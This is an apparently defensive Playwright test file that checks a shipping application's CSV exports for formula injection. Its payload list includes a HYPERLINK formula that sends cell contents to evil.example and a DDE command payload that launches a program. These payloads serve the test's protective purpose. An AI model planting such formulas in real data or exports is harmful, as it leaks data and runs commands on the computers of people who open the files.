import { randomUUID } from 'node:crypto';
import { expect, test } from '@playwright/test';
import { bodyOf } from '../support/bodies';
import { callerOf, jsonOf, type Caller } from '../support/http';
import { allOperations } from '../support/operations';
import { mark, placesOf } from '../support/places';

/** Texts that a spreadsheet would run. */
const formulas = [
  `=HYPERLINK("https://evil.example?"&A1,"${mark}")`,
  `+1+1 ${mark}`,
  `-2+3 ${mark}`,
  `@SUM(A1:A9) ${mark}`,
  `=cmd|' /C calc'!A0 ${mark}`,
  `"=1+1 ${mark}`,
];

/** Cells of a CSV file after RFC 4180. */
function cellsOf(text: string): string[] {
  const cells: string[] = [];
  for (const match of text.replace(/^\uFEFF/, '').matchAll(/(?:^|,|\r?\n)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g))
    cells.push((match[1]?.replaceAll('""', '"') ?? match[2] ?? '').trimEnd());
  return cells;
}

const starts = /^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/;
const live = (text: string) => cellsOf(text).filter((cell) => starts.test(cell));

async function made(caller: Caller, path: string, json: unknown): Promise<string> {
  const answer = await caller.send('POST', path, { json });
  expect(answer.status, answer.text).toBeLessThan(300);
  return String(jsonOf(answer).id);
}

async function templateOf(name: string, caller: Caller) {
  const operation = (await allOperations()).find((one) => one.name === name);
  if (!operation) throw new Error(`there is no ${name}`);
  return (await bodyOf(operation, caller, await placesOf(caller))) as Record<string, unknown>;
}

const code = () => `ZZ-${randomUUID().slice(0, 8)}`;

test('formulas in names come out of every CSV file as text', async () => {
  const caller = await callerOf('otherAdmin');
  const shipper = await made(caller, '/api/shippers/shippers', {
    code: code(),
    name: `=1+1 ${mark}`,
    country: 'GB',
    currency: 'USD',
    language: 'en',
  });
  const base = `/api/shippers/shippers/${shipper}`;
  const supplier = await made(caller, '/api/supplier/suppliers', {
    code: code(),
    name: `=1+1 ${mark}`,
    country: 'GB',
    stages: ['origin-delivery'],
    currency: 'USD',
  });
  const product = await templateOf('POST /api/shippers/shippers/{shipperId}/products', caller);
  const card = await templateOf('POST /api/supplier/suppliers/{supplierId}/rate-cards', caller);
  const cards = `/api/supplier/suppliers/${supplier}/rate-cards`;
  for (const text of formulas) {
    await made(caller, `${base}/products`, {
      ...product,
      code: code(),
      name: text,
      nameJa: text,
      notes: text,
    });
    for (const kind of ['pickup-locations', 'delivery-locations'])
      await made(caller, `${base}/${kind}`, { name: text, country: 'GB', address: text, notes: text });
    await made(caller, cards, { ...card, code: code(), name: text, nameJa: text });
  }
  for (const path of [
    `${base}/products/export`,
    `${base}/pickup-locations/export`,
    `${base}/delivery-locations/export`,
    `${cards}/export`,
  ]) {
    const file = await caller.get(path);
    expect(file.status, path).toBe(200);
    expect(file.headers['content-type'], path).toMatch(/^text\/csv/);
    expect(file.headers['content-disposition'], path).toMatch(/^attachment; filename="[^"\r\n]+"/);
    expect(file.text, path).toContain(mark);
    expect(live(file.text), path).toEqual([]);
  }
});

test('formulas in an estimate come out of its CSV file as text', async () => {
  const caller = await callerOf('otherAdmin');
  const template = await templateOf('POST /api/estimate/estimates', caller);
  const [item] = template.cargo as Record<string, unknown>[];
  const [first = ''] = formulas;
  const estimate = await made(caller, '/api/estimate/estimates', {
    ...template,
    title: first,
    remarks: formulas.join('\n'),
    cargo: formulas.map((text, index) => ({ ...item, id: `row-${index}`, nameEn: text, nameJa: text })),
  });
  const job = await made(caller, '/api/estimate/exports', {
    kind: 'csv',
    estimateIds: [estimate],
    language: 'en',
  });
  const path = `/api/estimate/exports/${job}`;
  await expect
    .poll(async () => jsonOf(await caller.get(path)).state, { intervals: [50, 100, 200] })
    .toBe('done');
  const file = await caller.get(`${path}/file`);
  expect(file.text).toContain(mark);
  expect(live(file.text)).toEqual([]);
});
